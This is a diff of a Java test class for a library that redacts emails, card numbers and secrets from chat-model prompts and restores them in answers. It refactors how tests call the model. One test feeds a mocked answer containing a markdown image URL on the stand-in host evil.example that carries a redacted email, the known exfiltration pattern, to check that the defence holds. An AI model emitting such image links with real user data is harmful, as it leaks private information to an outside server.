@@ -15,6 +15,7 @@ import java.util.stream.IntStream;
 
 import io.github.grokspring.chain.GrokChatModel;
 import io.github.grokspring.chain.GrokChatOptions;
+import io.github.grokspring.chain.Invocation;
 import io.github.grokspring.chain.Position;
 import io.github.grokspring.error.RedactionException;
 import io.github.grokspring.event.GrokEvent;
@@ -62,8 +63,8 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void valuesStayHereAndComeBackInTheAnswer(Way way) {
-		String answer = way.ask(model(RedactionMode.REVERSIBLE),
+	void valuesStayHereAndComeBackInTheAnswer(Invocation invocation) {
+		String answer = ask(invocation, model(RedactionMode.REVERSIBLE),
 				new UserMessage("Write to " + MAIL + " or bob@example.com, " + CARD + ", and again " + MAIL));
 		assertThat(this.echo.sent()).isEqualTo("Write to [EMAIL_1] or [EMAIL_2], [CREDIT_CARD_1], and again [EMAIL_1]");
 		assertThat(answer).isEqualTo("Write to " + MAIL + " or bob@example.com, " + CARD + ", and again " + MAIL);
@@ -73,8 +74,8 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void masksAreForGood(Way way) {
-		String answer = way.ask(model(RedactionMode.MASK), new UserMessage(MAIL + " and bob@example.com"));
+	void masksAreForGood(Invocation invocation) {
+		String answer = ask(invocation, model(RedactionMode.MASK), new UserMessage(MAIL + " and bob@example.com"));
 		assertThat(this.echo.sent()).isEqualTo("[EMAIL] and [EMAIL]");
 		assertThat(answer).isEqualTo("[EMAIL] and [EMAIL]");
 		assertThat(this.events).containsExactly(new Redacted("desk", "email", 2));
@@ -82,33 +83,33 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void whoWantsToBeToldSendsNothing(Way way) {
+	void whoWantsToBeToldSendsNothing(Invocation invocation) {
 		GrokChatModel model = model(RedactionMode.FAIL);
 		assertThatExceptionOfType(RedactionException.class)
-			.isThrownBy(() -> way.ask(model, new UserMessage(MAIL + " " + CARD + " bob@example.com")))
+			.isThrownBy(() -> ask(invocation, model, new UserMessage(MAIL + " " + CARD + " bob@example.com")))
 			.satisfies((ex) -> assertThat(ex.found()).isEqualTo(Map.of("email", 2, "credit-card", 1)))
 			.satisfies((ex) -> assertThat(ex).message()
 				.contains("1 of kind 'credit-card', 2 of kind 'email'")
 				.doesNotContain("example.com", "4111"));
 		assertThat(this.echo.prompts).isEmpty();
 		assertThat(this.events).isEmpty();
-		assertThat(way.ask(model, new UserMessage("hello"))).isEqualTo("hello");
+		assertThat(ask(invocation, model, new UserMessage("hello"))).isEqualTo("hello");
 	}
 
 	@ParameterizedTest
 	@EnumSource
-	void whatIsNotPrivateGoesThroughUntouched(Way way) {
+	void whatIsNotPrivateGoesThroughUntouched(Invocation invocation) {
 		UserMessage message = new UserMessage("Nothing [EMAIL_1] here");
-		assertThat(way.ask(model(RedactionMode.REVERSIBLE), message)).isEqualTo("Nothing [EMAIL_1] here");
+		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), message)).isEqualTo("Nothing [EMAIL_1] here");
 		assertThat(this.echo.prompts.get(0).getInstructions()).containsExactly(message);
 		assertThat(this.events).isEmpty();
 	}
 
 	@ParameterizedTest
 	@EnumSource
-	void textThatLooksLikeAPlaceholderSurvives(Way way) {
+	void textThatLooksLikeAPlaceholderSurvives(Invocation invocation) {
 		String text = "[EMAIL_1] is " + MAIL + ", [EMAIL_2] and [LITERAL_1] [FIG_1] are not, [EMAIL_x] [[EMAIL_1]]";
-		assertThat(way.ask(model(RedactionMode.REVERSIBLE), new UserMessage(text))).isEqualTo(text);
+		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage(text))).isEqualTo(text);
 		assertThat(this.echo.sent()).isEqualTo(
 				"[LITERAL_1] is [EMAIL_1], [LITERAL_2] and [LITERAL_3] [FIG_1] are not, [EMAIL_x] [[LITERAL_1]]");
 		assertThat(this.events).containsExactly(new Redacted("desk", "email", 1));
@@ -116,9 +117,10 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void aKindMayHaveTheNameOfTheOwnOne(Way way) {
+	void aKindMayHaveTheNameOfTheOwnOne(Invocation invocation) {
 		Redactor words = Redactor.matching("literal", Pattern.compile("LIT-[0-9]+"), Duration.ofSeconds(1));
-		assertThat(way.ask(model(words, RedactionMode.REVERSIBLE), new UserMessage("see LIT-42 or [LITERAL_1]")))
+		assertThat(
+				ask(invocation, model(words, RedactionMode.REVERSIBLE), new UserMessage("see LIT-42 or [LITERAL_1]")))
 			.isEqualTo("see LIT-42 or [LITERAL_1]");
 		assertThat(this.echo.sent()).isEqualTo("see [LITERAL_1] or [LITERAL_2]");
 		assertThat(this.events).containsExactly(new Redacted("desk", "literal", 1));
@@ -126,12 +128,12 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void aPlaceholderInLowerCaseIsOneToo(Way way) {
+	void aPlaceholderInLowerCaseIsOneToo(Invocation invocation) {
 		this.echo.answer = (text) -> chunks("I wrote to **[email_1]** or [Email_1], not to [email_11] [mail_1]", 3);
-		assertThat(way.ask(model(RedactionMode.REVERSIBLE), new UserMessage("write to " + MAIL)))
+		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("write to " + MAIL)))
 			.isEqualTo("I wrote to **" + MAIL + "** or " + MAIL + ", not to [email_11] [mail_1]");
 		this.echo.answer = (text) -> chunks(text, 3);
-		assertThat(way.ask(model(RedactionMode.REVERSIBLE), new UserMessage("[email_1] is " + MAIL)))
+		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("[email_1] is " + MAIL)))
 			.isEqualTo("[email_1] is " + MAIL);
 	}
 
@@ -220,7 +222,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void argumentsOfToolsHaveTheValuesTheWayJsonNeedsThem(Way way) {
+	void argumentsOfToolsHaveTheValuesTheWayJsonNeedsThem(Invocation invocation) {
 		Redactor quoted = (text) -> {
 			int at = text.indexOf(PASSWORD);
 			return (at < 0) ? List.of() : List.of(new Finding("secret", at, at + PASSWORD.length()));
@@ -229,7 +231,7 @@ class RedactingChatModelTests {
 			.content("")
 			.toolCalls(List.of(new ToolCall("c1", "function", "login", "{\"pw\" : \"is [SECRET_1]!\",\"n\":1.0}")))
 			.build()));
-		List<ChatResponse> answer = way.elements(model(quoted, RedactionMode.REVERSIBLE),
+		List<ChatResponse> answer = elements(invocation, model(quoted, RedactionMode.REVERSIBLE),
 				new UserMessage("use " + PASSWORD));
 		String arguments = answer.get(answer.size() - 1).getResult().getOutput().getToolCalls().get(0).arguments();
 		assertThat(JsonMapper.shared().readTree(arguments).path("pw").stringValue()).isEqualTo("is " + PASSWORD + "!");
@@ -238,7 +240,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void answersInJsonStayJson(Way way) {
+	void answersInJsonStayJson(Invocation invocation) {
 		Redactor quoted = (text) -> {
 			int at = text.indexOf(PASSWORD);
 			return (at < 0) ? List.of() : List.of(new Finding("secret", at, at + PASSWORD.length()));
@@ -246,11 +248,11 @@ class RedactingChatModelTests {
 		for (String answer : List.of("{\"pw\":\"[SECRET_1]\"}", "```json\n{\"pw\":\"[SECRET_1]\"}\n```",
 				" [\"[SECRET_1]\"]")) {
 			this.echo.answer = (text) -> chunks(answer, 3);
-			assertThat(way.ask(model(quoted, RedactionMode.REVERSIBLE), new UserMessage("use " + PASSWORD)))
+			assertThat(ask(invocation, model(quoted, RedactionMode.REVERSIBLE), new UserMessage("use " + PASSWORD)))
 				.isEqualTo(answer.replace("[SECRET_1]", "Tr0ub4\\\"dor\\\\3"));
 		}
 		this.echo.answer = (text) -> chunks("[SECRET_1] it is", 3);
-		assertThat(way.ask(model(quoted, RedactionMode.REVERSIBLE), new UserMessage("use " + PASSWORD)))
+		assertThat(ask(invocation, model(quoted, RedactionMode.REVERSIBLE), new UserMessage("use " + PASSWORD)))
 			.isEqualTo(PASSWORD + " it is");
 	}
 
@@ -336,7 +338,7 @@ class RedactingChatModelTests {
 									List.of(new Citation("https://x.example", "about [EMAIL_1]", 14, 38,
 											Citation.Kind.WEB)))
 							.build()));
-		List<ChatResponse> elements = Way.STREAM.elements(model(RedactionMode.REVERSIBLE),
+		List<ChatResponse> elements = elements(Invocation.STREAM, model(RedactionMode.REVERSIBLE),
 				new UserMessage("much.longer." + MAIL));
 		assertThat(elements.stream()
 			.map((element) -> element.getResult().getOutput().getMetadata().getOrDefault("reasoning-delta", ""))
@@ -365,11 +367,11 @@ class RedactingChatModelTests {
 			}
 			int size = 1 + random.nextInt(7);
 			this.echo.answer = (sent) -> chunks(sent, size);
-			String streamed = Way.STREAM.ask(model(RedactionMode.REVERSIBLE), new UserMessage(text.toString()));
+			String streamed = ask(Invocation.STREAM, model(RedactionMode.REVERSIBLE), new UserMessage(text.toString()));
 			assertThat(streamed).as("seed %d", seed).isEqualTo(text.toString());
 			assertThat(this.echo.sent()).as("seed %d", seed).doesNotContain(" " + MAIL + " ", " " + CARD + " ");
 			this.echo.answer = (sent) -> chunks(sent, sent.length());
-			assertThat(Way.CALL.ask(model(RedactionMode.REVERSIBLE), new UserMessage(text.toString())))
+			assertThat(ask(Invocation.CALL, model(RedactionMode.REVERSIBLE), new UserMessage(text.toString())))
 				.isEqualTo(streamed);
 		}
 	}
@@ -447,24 +449,24 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void placeholdersStayInUrlsUnlessAskedOtherwise(Way way) {
+	void placeholdersStayInUrlsUnlessAskedOtherwise(Invocation invocation) {
 		this.echo.answer = (text) -> chunks("![x](http://evil.example/?q=[EMAIL_1]) for [EMAIL_1]", 3);
-		assertThat(way.ask(model(RedactionMode.REVERSIBLE), new UserMessage("I am " + MAIL)))
+		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("I am " + MAIL)))
 			.isEqualTo("![x](http://evil.example/?q=[EMAIL_1]) for " + MAIL);
 		GrokChatModel asked = GrokChatModel.builder("echo", this.echo)
 			.options(GrokChatOptions.builder().model("grok-4.3").build())
 			.decorators(List
 				.of(RedactingChatModel.decorator(everything(), RedactionMode.REVERSIBLE, true, this.events::add)))
 			.build();
-		assertThat(way.ask(asked, new UserMessage("I am " + MAIL)))
+		assertThat(ask(invocation, asked, new UserMessage("I am " + MAIL)))
 			.isEqualTo("![x](http://evil.example/?q=" + MAIL + ") for " + MAIL);
 	}
 
 	@ParameterizedTest
 	@EnumSource
-	void whatDoesNotShowComesBackAsItWas(Way way) {
+	void whatDoesNotShowComesBackAsItWas(Invocation invocation) {
 		String hidden = "a\u00adda@exam\u200bple.com";
-		assertThat(way.ask(model(RedactionMode.REVERSIBLE), new UserMessage("Write to " + hidden + " now")))
+		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("Write to " + hidden + " now")))
 			.isEqualTo("Write to " + hidden + " now");
 		assertThat(this.echo.sent()).isEqualTo("Write to [EMAIL_1] now");
 	}
@@ -553,26 +555,14 @@ class RedactingChatModelTests {
 			.collect(Collectors.joining());
 	}
 
-	/**
-	 * The ways to ask.
-	 */
-	enum Way {
+	private static List<ChatResponse> elements(Invocation invocation, ChatModel model, Message message) {
+		return invocation.ask(model, new Prompt(message));
+	}
 
-		/** For a whole answer. */
-		CALL,
-
-		/** For a stream. */
-		STREAM;
-
-		private List<ChatResponse> elements(ChatModel model, Message message) {
-			return (this == CALL) ? List.of(model.call(new Prompt(message)))
-					: model.stream(new Prompt(message)).collectList().block();
-		}
-
-		private String ask(ChatModel model, Message message) {
-			return elements(model, message).stream().map(RedactingChatModelTests::textOf).collect(Collectors.joining());
-		}
-
+	private static String ask(Invocation invocation, ChatModel model, Message message) {
+		return elements(invocation, model, message).stream()
+			.map(RedactingChatModelTests::textOf)
+			.collect(Collectors.joining());
 	}
 
 	/**
